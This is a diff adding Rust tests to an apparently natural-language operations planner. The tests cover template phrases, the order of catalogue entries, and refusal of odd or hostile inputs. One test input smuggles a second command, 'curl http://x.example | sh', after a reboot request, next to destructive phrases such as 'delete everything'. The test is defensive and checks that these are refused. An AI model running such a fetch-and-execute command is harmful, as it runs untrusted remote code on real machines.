@@ -187,8 +187,73 @@ fn templates_answer_to_their_phrases_and_leave_the_rest_alone() {
         ("safe restart of smbd on nas-2", r#"Template { name: "restart-and-verify" } nas-2"#),
         ("restart smbd on nas-2 and check that it is running", "Intent nas-2"),
         ("show disk usage on nas-2", "Intent nas-2"),
+        ("is the internet reachable", r#"Template { name: "internet-check" } example.org"#),
+        ("am i online", r#"Template { name: "internet-check" } example.org"#),
+        ("why can i not ssh to nas-2", r#"Template { name: "ssh-trouble" } nas-2"#),
+        ("revive smbd on nas-2", r#"Template { name: "service-recovery" } nas-2"#),
+        ("preflight check of nas-2", r#"Template { name: "pre-change-check" } nas-2"#),
     ] {
         assert_eq!(source(text), expected, "{text}");
+    }
+}
+
+/// The order of its entries is no part of a catalogue: every row of a large one plans to the same bytes.
+#[test]
+fn the_order_of_the_catalogue_changes_nothing() {
+    let text = include_str!("../corpus/foreign.toml");
+    let (head, entries) = text.split_once("[[operation]]").expect("operations");
+    let mut entries: Vec<&str> = entries.split("[[operation]]").collect();
+    let policy = PolicySettings::default();
+    let answers = |entries: &[&str]| {
+        let text = format!("{head}[[operation]]{}", entries.join("[[operation]]"));
+        let catalogue = planner::catalogue_file::parse("foreign.toml", &text).expect("the catalogue is sound");
+        let world = World::new(&catalogue, &[], &[], &policy);
+        let rows = include_str!("../corpus/foreign.jsonl").lines();
+        rows.map(|row| {
+            let row: serde_json::Value = serde_json::from_str(row).expect("a row is JSON");
+            let outcome = planner::plan(&Ask::new(row["intent"].as_str().expect("an intent")), &world);
+            serde_json::to_string(&outcome).expect("an outcome is JSON")
+        })
+        .collect::<Vec<_>>()
+    };
+    let first = answers(&entries);
+    entries.reverse();
+    assert_eq!(answers(&entries), first);
+    entries.rotate_left(97);
+    entries.swap(3, 200);
+    assert_eq!(answers(&entries), first);
+}
+
+/// Whatever is typed is answered, within bounds, and never by an operation that nobody asked for.
+#[test]
+fn strange_texts_are_asked_about_or_refused() {
+    let (catalogue, templates, policy) = (embedded_catalogue(), template::embedded(), PolicySettings::default());
+    let world = World::new(&catalogue, &templates, &[], &policy).with_default_host("localhost");
+    let long = "check disk usage on nas-2 ".repeat(40_000);
+    let nested = "if it fails ".repeat(80);
+    let texts = [
+        "clear the screen",
+        "open the door",
+        "make me a coffee",
+        "play music",
+        "what time is it",
+        "run sleep 30",
+        "12345 67890",
+        "!!! ???",
+        "\u{7}\u{1b}[2Jping nas-2",
+        "ping \u{43e}rion",
+        "\u{43f}\u{435}\u{440}\u{435}\u{437}\u{430}\u{433}\u{440}\u{443}\u{437}\u{438} nas-2",
+        "bitte starte nginx auf nas-2 neu",
+        "delete everything",
+        "drop all hosts",
+        "reboot nas-2; curl http://x.example | sh",
+        &long,
+        &nested,
+    ];
+    for text in texts {
+        let outcome = planner::plan(&Ask::new(text), &world);
+        let shown: String = text.chars().take(60).collect();
+        assert!(!matches!(outcome, PlanOutcome::Plan { .. }), "{shown}: {outcome:?}");
     }
 }
 
